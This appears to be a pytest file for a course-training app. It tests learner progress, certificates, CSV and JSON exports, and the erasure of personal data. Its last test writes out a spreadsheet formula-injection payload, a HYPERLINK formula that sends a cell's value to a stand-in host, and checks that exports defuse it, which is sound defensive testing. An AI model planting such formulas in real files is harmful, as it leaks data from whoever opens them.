"""My progress, the certificate's content, exports and erasing, on real databases."""

import csv
import io
import json
import sqlite3

import pytest

from trainer.store import db as store_db
from trainer.store import erase, export, progress, records
from trainer.store.standing import course_standing


def test_module_summaries(fresh_db, demo_library, kari):
    course = demo_library.courses_in("nb")[0]
    [summary] = records.module_summaries(fresh_db, kari.id, course, demo_library)
    assert (summary.module_id, summary.status, summary.seconds_spent) == ("demo", "completed", 300)
    assert summary.quizzes == (records.QuizSummary("quiz-demo", "Quiz: demo", 2, 80, 80, (40, 80)),)
    assert summary.scenarios == (records.ScenarioSummary("sko", "Nye sko", ("En god samtale",)),)


def test_a_quiz_opened_and_left_at_once_is_no_attempt(fresh_db, demo_library, kari):
    """Passing through a quiz part started an attempt, and My progress said "Quiz attempts
    1" with no score. An attempt counts once it is finished or has an answer."""
    course = demo_library.courses_in("nb")[0]
    counted = lambda: records.module_summaries(fresh_db, kari.id, course, demo_library)[0].quizzes[0].attempts  # noqa: E731
    before = counted()
    attempt = progress.start_attempt(fresh_db, kari.id, "demo", "quiz-demo", "v1")
    assert counted() == before
    progress.record_answer(fresh_db, attempt, "betaler", 0, True, "v1")
    assert counted() == before + 1


def test_certificate_refused_then_granted(fresh_db, demo_library):
    course = demo_library.courses_in("nb")[0]
    profile = progress.create_profile(fresh_db, "Ola")
    with pytest.raises(records.NotPassedError) as refused:
        records.certificate(fresh_db, profile.id, course, demo_library, "2026-11-26")
    assert [q.quiz_id for q in refused.value.standing.remaining] == ["quiz-demo"]
    attempt = progress.start_attempt(fresh_db, profile.id, "demo", "quiz-demo", "v")
    progress.finish_attempt(fresh_db, attempt, 5, 5, 75)
    granted = records.certificate(fresh_db, profile.id, course, demo_library, "2026-11-26")
    assert (granted.learner, granted.course_title, granted.issued) == ("Ola", "Demokurs", "2026-11-26")
    assert granted.lines[0].module_title == "Demomodul" and granted.lines[0].score == "100 %"
    assert granted.content_versions == "demo v"  # the version the passing attempt answered


def test_a_certificate_says_only_what_is_true(fresh_db, demo_library):
    """Passed by the quiz alone, the module never opened: the certificate showed a date
    for it (the quiz's) and the installed content's version. Now: not completed, the
    pass rule, and the version of the attempt that passed."""
    course = demo_library.courses_in("nb")[0]
    profile = progress.create_profile(fresh_db, "Ola")
    passed = progress.start_attempt(fresh_db, profile.id, "demo", "quiz-demo", "1+gammel")
    progress.finish_attempt(fresh_db, passed, 5, 5, 75)
    later = progress.start_attempt(fresh_db, profile.id, "demo", "quiz-demo", "2+ny")  # a later try, failed
    progress.finish_attempt(fresh_db, later, 1, 5, 75)
    granted = records.certificate(fresh_db, profile.id, course, demo_library, "2026-11-26")
    assert granted.lines[0].date == ""  # never completed
    assert granted.content_versions == "demo 1+gammel"
    assert granted.pass_percent == course.pass_rule.min_percent and granted.quizzes == "Quiz: demo"


def test_a_certificate_dates_a_module_where_the_learner_is(fresh_db, demo_library, monkeypatch):
    """Times are stored in UTC: 23:30 UTC on the 26th is the 27th in Oslo."""
    import time

    monkeypatch.setenv("TZ", "Europe/Oslo")
    time.tzset()
    try:
        course = demo_library.courses_in("nb")[0]
        profile = progress.create_profile(fresh_db, "Ola")
        attempt = progress.start_attempt(fresh_db, profile.id, "demo", "quiz-demo", "v")
        progress.finish_attempt(fresh_db, attempt, 5, 5, 75)
        progress.mark_completed(fresh_db, profile.id, "demo")
        fresh_db.execute("update module_progress set completed_at = '2026-11-26T23:30:00.000+00:00'")
        granted = records.certificate(fresh_db, profile.id, course, demo_library, "2026-11-28")
        assert granted.lines[0].date == "2026-11-27"
    finally:
        monkeypatch.undo()
        time.tzset()


def test_a_required_quiz_that_is_missing_is_not_passed(fresh_db, demo_library):
    """The pass rule skipped a quiz whose module is missing in the course's language, so
    the course passed without it."""
    from dataclasses import replace

    from trainer.course.model import PassRule

    course = demo_library.courses_in("nb")[0]
    profile = progress.create_profile(fresh_db, "Ola")
    attempt = progress.start_attempt(fresh_db, profile.id, "demo", "quiz-demo", "v")
    progress.finish_attempt(fresh_db, attempt, 5, 5, 75)
    assert course_standing(fresh_db, profile.id, course, demo_library).passed
    named = course._replace(module_ids=course.module_ids + ("bare-engelsk",),
                    pass_rule=PassRule(("quiz-demo", "quiz-bare-engelsk"), 75))
    standing = course_standing(fresh_db, profile.id, named, demo_library)
    assert not standing.passed and [q.quiz_id for q in standing.remaining] == ["quiz-bare-engelsk"]
    with pytest.raises(records.NotPassedError):
        records.certificate(fresh_db, profile.id, named, demo_library, "2026-11-26")
    # A rule that names no quiz (every quiz counts): a module missing in this language
    # brings the quiz it has in another.
    english_only = demo_library.module("demo", "en")._replace(id="bare-engelsk")
    library = replace(demo_library, modules=[*demo_library.modules, english_only])
    every = course._replace(module_ids=course.module_ids + ("bare-engelsk",), pass_rule=PassRule((), 75))
    standing = course_standing(fresh_db, profile.id, every, library)
    assert [(q.module_id, q.quiz_id) for q in standing.remaining] == [("bare-engelsk", "quiz-demo")]


def test_the_apps_spreadsheet_export_is_for_excel_in_the_users_language(fresh_db, demo_library, kari, monkeypatch):
    """The app's CSV opened in Norwegian Excel as one column of "LÃ¦rerkurs" with English
    headings, UTC times to the millisecond and no name. `trainer export` is unchanged."""
    import time

    from trainer import i18n

    monkeypatch.setenv("TZ", "Europe/Oslo")
    time.tzset()
    try:
        i18n.set_language("nb")
        progress.rename_profile(fresh_db, kari.id, "=Kari; Ødegård")
        fresh_db.execute("update module_progress set started_at = '2026-11-26T23:30:00.123+00:00'")
        text = export.to_spreadsheet(fresh_db, kari.id, demo_library, "nb")
        rows = list(csv.reader(io.StringIO(text), delimiter=";"))
        assert rows[0][:4] == ["Navn", "Type", "Modul", "Quiz eller scenario"]
        assert rows[1][:5] == ["'=Kari; Ødegård", "modul", "Demomodul", "", "fullført"]  # no formula, ";" quoted
        assert rows[1][7] == "2026-11-27 00:30" and rows[1][9] == "5"
        assert [r[1] for r in rows[1:]] == ["modul", "quiz", "quiz", "scenario"]
        assert rows[3][6] == "ja" and rows[4][4] == "slutt: En god samtale"
        assert all(len(r) == 11 for r in rows)
        i18n.set_language("en")
        english = list(csv.reader(io.StringIO(export.to_spreadsheet(fresh_db, kari.id, demo_library, "en"))))
        assert english[0][:2] == ["Name", "Record"] and english[1][4] == "completed"
        # The command line's format is what it was.
        assert export.to_csv(fresh_db, kari.id, demo_library, "nb").splitlines()[0] == ",".join(export.CSV_COLUMNS)
    finally:
        monkeypatch.undo()
        time.tzset()


def test_csv_export(fresh_db, demo_library, kari):
    rows = list(csv.DictReader(io.StringIO(export.to_csv(fresh_db, kari.id, demo_library, "nb"))))
    assert list(rows[0]) == export.CSV_COLUMNS
    assert [(r["record"], r["item_id"], r["score_percent"], r["passed"]) for r in rows] == [
        ("module", "", "", ""),
        ("quiz", "quiz-demo", "40", "no"),
        ("quiz", "quiz-demo", "80", "yes"),
        ("scenario", "sko", "", ""),
    ]
    assert rows[0]["module_title"] == "Demomodul" and rows[0]["seconds_spent"] == "300"
    assert rows[3]["status"] == "ending: god-slutt"


def test_csv_export_lists_what_was_tried_not_what_was_only_opened(fresh_db, demo_library, kari):
    """As My progress counts them: a quiz or a scenario opened and left at once is no
    attempt; one begun and left half-way is an unfinished one."""
    version = demo_library.module("demo", "nb").content_version
    progress.start_attempt(fresh_db, kari.id, "demo", "quiz-demo", version)  # opened, left
    progress.start_run(fresh_db, kari.id, "demo", "sko", version)  # opened, left
    begun = progress.start_attempt(fresh_db, kari.id, "demo", "quiz-demo", version)
    progress.record_answer(fresh_db, begun, "betaler", 0, True, version)
    run = progress.start_run(fresh_db, kari.id, "demo", "sko", version)
    progress.record_choice(fresh_db, run, "start", 0, "samtale", ("nye-ting",))
    rows = list(csv.DictReader(io.StringIO(export.to_csv(fresh_db, kari.id, demo_library, "nb"))))
    assert [(r["record"], r["status"], r["score_percent"]) for r in rows] == [
        ("module", "completed", ""),
        ("quiz", "finished", "40"),
        ("quiz", "finished", "80"),
        ("quiz", "unfinished", ""),
        ("scenario", "ending: god-slutt", ""),
        ("scenario", "unfinished", ""),
    ]


def test_json_export_holds_everything(fresh_db, demo_library, kari):
    progress.mark_page_read(fresh_db, kari.id, "demo", "intro")
    document = json.loads(export.to_json(fresh_db, kari.id, demo_library, "nb"))
    assert set(document) == {"format", "format_version", "app_version", "exported_at", "profile", "modules",
                             "scenario_runs", "quiz_attempts", "courses", "content_changes", "pages_read"}
    assert document["content_changes"] == []
    assert [(p["module_id"], p["part_id"]) for p in document["pages_read"]] == [("demo", "intro")]
    assert document["profile"]["name"] == "Kari Nordmann" and document["profile"]["uuid"] == kari.uuid
    assert [c["tags"] for c in document["scenario_runs"][0]["choices"]] == ["nye-ting", "nye-venner"]
    assert document["quiz_attempts"][1]["answers"][1]["answer"] == {"Bestiller": "Betaler for volden", "Utfører": "Gjør selve handlingen"}
    assert document["courses"] == [{
        "course_id": "demokurs", "title": "Demokurs", "passed": True, "modules_completed": 1, "modules_total": 1,
        "quizzes": [{"module_id": "demo", "quiz_id": "quiz-demo", "best_percent": 80, "needed_percent": 75, "passed": True}],
    }]


def test_erase_one_profile_and_all(tmp_path, demo_library):
    path = tmp_path / "p.db"
    database = store_db.connect(path)
    kept = progress.create_profile(database, "Anne Beholdt")
    gone = progress.create_profile(database, "Kari Slettet")
    for profile in (kept, gone):
        attempt = progress.start_attempt(database, profile.id, "demo", "quiz-demo", "v")
        progress.record_answer(database, attempt, "betaler", 0, True, "v")
        progress.finish_attempt(database, attempt, 1, 5, 75)
        run = progress.start_run(database, profile.id, "demo", "sko", "v")
        progress.record_choice(database, run, "start", 0, "samtale", ("nye-ting",))
        progress.save_position(database, profile.id, "demo", "sko")
        database["xapi_sent"].insert({"statement_id": f"s{profile.id}", "profile_id": profile.id, "lrs": "x", "sent_at": "t"})
    erase.delete_profile(database, gone.id)
    conn = sqlite3.connect(path)
    for table, rows in {
        "profiles": 1, "module_progress": 1, "scenario_runs": 1, "scenario_choices": 1,
        "quiz_attempts": 1, "quiz_answers": 1, "xapi_sent": 1,
    }.items():
        assert conn.execute(f"select count(*) from {table}").fetchone()[0] == rows, table
    # The name is gone from every table and from the file's free pages (vacuumed).
    assert b"Kari Slettet" not in path.read_bytes()
    assert b"Anne Beholdt" in path.read_bytes() or b"Anne Beholdt" in (tmp_path / "p.db-wal").read_bytes()
    erase.erase_all(database)
    for table in ("profiles", "module_progress", "scenario_runs", "scenario_choices", "quiz_attempts", "quiz_answers", "xapi_sent"):
        assert conn.execute(f"select count(*) from {table}").fetchone()[0] == 0, table
    assert b"Anne Beholdt" not in path.read_bytes()


def test_erasing_removes_backups_that_hold_the_person(tmp_path):
    from trainer.store import safety

    path = tmp_path / "p.db"
    database = store_db.connect(path)
    progress.create_profile(database, "Anne Beholdt")
    gone = progress.create_profile(database, "Kari Slettet")
    safety.make_backup(database, path)
    erase.delete_profile(database, gone.id)
    backups = list(safety.backups_dir(path).glob("p-*.db"))
    assert len(backups) == 1 and b"Kari Slettet" not in backups[0].read_bytes()
    assert b"Anne Beholdt" in backups[0].read_bytes()
    erase.erase_all(database)
    assert list(safety.backups_dir(path).glob("p-*.db")) == []


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_export_never_starts_a_cell_with_a_formula(demo_content, fresh_db, start):
    """Module and quiz titles come from packs: a spreadsheet must show them, not run them.
    (The loader strips a title's leading tab or CR; a stored content version keeps it.)"""
    from trainer.course.loader import load_library

    formula = f"{start}HYPERLINK(\"http://example.invalid/?\"&A1;\"klikk\")"
    for name, old in (("module.md", "title: Demomodul"), ("04-quiz.md", 'title: "Quiz: demo"')):
        path = demo_content / "nb" / "demo" / name
        path.write_text(path.read_text("utf-8").replace(old, f"title: {json.dumps(formula)}"), "utf-8")
    library = load_library([demo_content])
    title = library.module("demo", "nb").title
    profile = progress.create_profile(fresh_db, "Kari")
    progress.save_position(fresh_db, profile.id, "demo", "sko")
    attempt = progress.start_attempt(fresh_db, profile.id, "demo", "quiz-demo", formula)
    progress.finish_attempt(fresh_db, attempt, 4, 5, 75)
    rows = list(csv.DictReader(io.StringIO(export.to_csv(fresh_db, profile.id, library, "nb"), newline="")))
    shown = title if title[0] == "H" else "'" + title
    assert [(r["record"], r["module_title"], r["item_title"], r["content_version"]) for r in rows] == [
        ("module", shown, "", ""), ("quiz", shown, shown, "'" + formula)]
    cells = [cell for row in rows for cell in row.values()]
    assert not any(cell.startswith(export.FORMULA_STARTS) for cell in cells)
